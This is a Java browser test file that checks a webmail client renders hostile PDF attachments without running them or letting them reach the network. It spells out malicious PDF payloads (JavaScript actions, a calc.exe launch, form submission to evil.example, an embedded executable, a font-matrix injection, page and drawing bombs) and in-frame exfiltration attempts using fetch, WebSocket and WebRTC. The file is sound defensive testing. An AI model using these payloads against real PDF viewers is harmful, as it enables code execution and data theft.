package org.turnstone.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.turnstone.testing.MailHost;
import org.turnstone.testing.Needs;
import org.turnstone.testing.Parcel;
import org.turnstone.testing.PdfFile;
import org.turnstone.testing.Program;

/**
 * PDFs that want to do more than be drawn, and such as take all there is of time and space. Nothing runs, nothing goes
 * out, and the page around stays alive.
 */
@QuarkusTest
@Needs({Program.DOVECOT, Program.POSTFIX, Program.CHROMIUM})
class HostilePdfTest {

    private static final Map<String, byte[]> FILES = files();

    @TestHTTPResource
    String origin = "";

    static List<String> names() {
        return List.copyOf(FILES.keySet());
    }

    @ParameterizedTest
    @MethodSource("names")
    @Timeout(300)
    void isDrawnOrNotAndDoesNothing(String name) {
        try (Lookout lookout = look(name)) {
            Page page = lookout.page();
            assertThat(page.locator(".pdf").getAttribute("data-state")).isIn("open", "failed");
            boolean bomb = name.startsWith("bomb");
            if (bomb) {
                page.locator(".pdf[data-state=failed]").waitFor();
            } else if (page.locator(".pdf-frame").count() > 0) {
                page.frameLocator(".pdf-frame")
                        .locator("canvas, .failed")
                        .first()
                        .waitFor();
                Locator links = page.frameLocator(".pdf-frame").locator("a");
                for (Locator link : links.all()) {
                    assertThat(link.getAttribute("href")).matches("#|https://evil\\.example/.*");
                }
                // Whoever clicks a link follows it; nothing else is to come of a click.
                if (links.count() == 0) {
                    page.frameLocator(".pdf-frame").locator("body").click();
                }
            }
            assertThat(lookout.deeds()).isEmpty();
            assertThat(lookout.asked()).isEmpty();
            assertThat(page.url()).endsWith("/parts/2/view");
            // The page answers, and leads on.
            page.locator("a[data-key~=list]").click();
            page.locator("#message-subject").waitFor();
        }
    }

    /** If a file should ever make pdf.js run what it wants: it would be in a place with nothing in it, and no way out. */
    @Test
    void wouldFindNothingIfItRan() {
        try (Lookout lookout = look("sound")) {
            Frame frame = lookout.page().frames().stream()
                    .filter(each -> each.url().endsWith("/pdf"))
                    .findFirst()
                    .orElseThrow();
            for (String attempt : List.of(
                    "document.cookie",
                    "localStorage.length",
                    "indexedDB.open('x')",
                    "parent.document.title",
                    "parent.location.href",
                    "top.location = 'https://evil.example/'",
                    "new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] })",
                    "document.body.append(document.createElement('iframe')); new frames[0].RTCPeerConnection()",
                    "eval('1')",
                    "new Function('return 1')()")) {
                assertThat(frame.evaluate(attempt(attempt))).as(attempt).isEqualTo("refused");
            }
            for (String way : List.of(
                    "fetch('https://evil.example/')",
                    "fetch(location.href)",
                    "fetch('https://evil.example/', { mode: 'no-cors' })",
                    "new Promise((yes, no) => Object.assign(new Image(), { onload: yes, onerror: no, src: 'https://evil.example/a.png' }))",
                    "new Promise((yes, no) => Object.assign(new WebSocket('wss://evil.example/'), { onopen: yes, onerror: no }))",
                    "import('https://evil.example/a.js')")) {
                assertThat(frame.evaluate(
                                "() => " + way + ".then(() => 'done', () => 'refused').catch(() => 'refused')"))
                        .as(way)
                        .isEqualTo("refused");
            }
            assertThat(lookout.deeds()).isEmpty();
            // It may want to go elsewhere itself; the browser connects before it sees that the page around forbids it.
            frame.evaluate("() => { setTimeout(() => (location = 'https://evil.example/'), 0) }");
            lookout.page().waitForCondition(() -> !frame.url().endsWith("/pdf"));
            assertThat(frame.url()).startsWith("chrome-error:");
            assertThat(lookout.deeds()).allMatch(deed -> deed.equals("went out: CONNECT evil.example:443 HTTP/1.1"));
            assertThat(lookout.page().url()).endsWith("/parts/2/view");
        }
    }

    private static String attempt(String script) {
        // Later, since what a test evaluates may evaluate.
        return "() => new Promise(tell => setTimeout(() => { try { " + script
                + "; tell('done') } catch { tell('refused') } }))";
    }

    private Lookout look(String name) {
        String ida = MailHost.shared().person();
        byte[] file = Objects.requireNonNull(FILES.get(name));
        MailHost.shared()
                .dovecot()
                .append(
                        ida,
                        "INBOX",
                        new Parcel("Plans")
                                .file("plan.pdf", "application/pdf", file)
                                .bytes());
        Lookout lookout = new Lookout(origin);
        lookout.signIn(ida);
        lookout.page().locator("#list li a").first().click();
        lookout.page().locator("a.attachment[title='plan.pdf']").waitFor();
        lookout.forgive();
        lookout.page().locator("a.attachment[title='plan.pdf']").click();
        lookout.page().locator(".pdf[data-state]").waitFor();
        return lookout;
    }

    private static Map<String, byte[]> files() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("sound", PdfFile.of("Sound"));
        String script =
                "<< /S /JavaScript /JS (app.alert\\(1\\); alert\\(1\\); window.open\\('https://evil.example'\\)) >>";
        String link = "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s /AA << /E %s /D %s /Fo %s >> >>";
        files.put(
                "scripts wherever one may stand",
                page("/AA << /O " + script + " /C " + script + " >> /Annots ["
                                + link.formatted(script, script, script, script)
                                + "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 99 99] /AA << /F "
                                + script
                                + " /K " + script + " /C " + script + " >> >>]")
                        .catalog("/OpenAction " + script + " /AA << /WC " + script + " /WS " + script
                                + " >> /Names << /JavaScript << /Names [(a) " + script + "] >> >>"
                                + " /AcroForm << /Fields [] /NeedAppearances true >>")
                        .bytes());
        files.put(
                "actions that lead out",
                page("/Annots ["
                                + List.of(
                                                "<< /S /URI /URI (javascript:alert\\(1\\)) >>",
                                                "<< /S /Launch /F (calc.exe) >>",
                                                "<< /S /GoToR /F (https://evil.example/a.pdf) /D [0 /Fit] >>",
                                                "<< /S /SubmitForm /F (https://evil.example/) >>",
                                                "<< /S /ImportData /F (https://evil.example/) >>",
                                                "<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>",
                                                "<< /S /Named /N /Print >>")
                                        .stream()
                                        .map(action -> "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A " + action
                                                + " >>")
                                        .reduce("", String::concat)
                                + "]")
                        .catalog(
                                "/OpenAction << /S /URI /URI (https://evil.example/open) >> /URI << /Base (https://evil.example/) >>")
                        .bytes());
        PdfFile outside = new PdfFile();
        int remote =
                outside.add("<< /Length 0 /F << /FS /URL /F (https://evil.example/stream) >> >>\nstream\n\nendstream");
        files.put("content that lies elsewhere", outside.page(remote, "").bytes());
        PdfFile form = new PdfFile().page(PdfFile.words("Form"), "");
        int xfa = form.add(
                stream(
                        "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'>"
                                + "<subform><event activity='docReady'><script contentType='application/x-javascript'>app.alert(1)</script></event>"
                                + "<draw><value><exData contentType='text/html'><body xmlns='http://www.w3.org/1999/xhtml'>"
                                + "<a href='javascript:alert(1)'>x</a></body></exData></value></draw></subform></template></xdp:xdp>"));
        files.put(
                "a form in XML",
                form.catalog("/AcroForm << /XFA " + xfa + " 0 R /Fields [] >>").bytes());
        PdfFile carrier = new PdfFile().page(PdfFile.words("Files"), "");
        int inner = carrier.add(stream("MZ"));
        files.put(
                "files within",
                carrier.catalog("/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F "
                                + inner + " 0 R >> >>] >> >> /OpenAction << /S /GoToE /T << /R /C /N (a.exe) >> >>")
                        .bytes());
        files.put("a font that is a script", font("/FontMatrix [1 0 0 1 0 (1\\); alert\\(1\\); //)]"));
        files.put(
                "huge pages",
                new PdfFile()
                        .page(PdfFile.words("Huge"), "/MediaBox [0 0 1440000 1440000]")
                        .page(PdfFile.words("Long"), "/MediaBox [0 0 10 14400000]")
                        .page(PdfFile.words("None"), "/MediaBox [0 0 0 0]")
                        .page(PdfFile.words("Negative"), "/MediaBox [9e99 -9e99 0 0]")
                        .bytes());
        PdfFile many = new PdfFile();
        int same = many.add(stream(PdfFile.words("Many")));
        for (int i = 0; i < 3_000; i++) {
            many.page(same, "");
        }
        files.put("thousands of pages", many.bytes());
        files.put("a page count of a million", page("").claims("1000000").bytes());
        files.put(
                "a page that is its own parent",
                new PdfFile()
                        .page(PdfFile.words("One"), "")
                        .claims("-1")
                        .catalog("/Pages 1 0 R")
                        .bytes());
        files.put("a hundred thousand objects", objects(100_000));
        PdfFile drawn = new PdfFile();
        files.put(
                "bomb of drawing",
                drawn.page(drawn.packed("0 0 m 9 9 l S\n", 28_000_000), "").bytes());
        return files;
    }

    private static PdfFile page(String entries) {
        return new PdfFile().page(PdfFile.words("Good morning"), entries);
    }

    private static byte[] font(String entries) {
        PdfFile file = new PdfFile();
        int font = file.add(
                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica " + entries
                        + " /FontDescriptor << /Type /FontDescriptor /FontName /Helvetica /Flags 4 /FontMatrix [1 2 3 4 5 (alert\\(1\\))] >> >>");
        return file.page(PdfFile.words("Font"), "/Resources << /Font << /F1 " + font + " 0 R >> >>")
                .bytes();
    }

    private static byte[] objects(int count) {
        PdfFile file = new PdfFile().page(PdfFile.words("Objects"), "");
        for (int i = 0; i < count; i++) {
            file.add("[" + (i + 5) + " 0 R]");
        }
        return file.bytes();
    }

    private static String stream(String content) {
        return "<< /Length " + content.length() + " >>\nstream\n" + content + "\nendstream";
    }
}
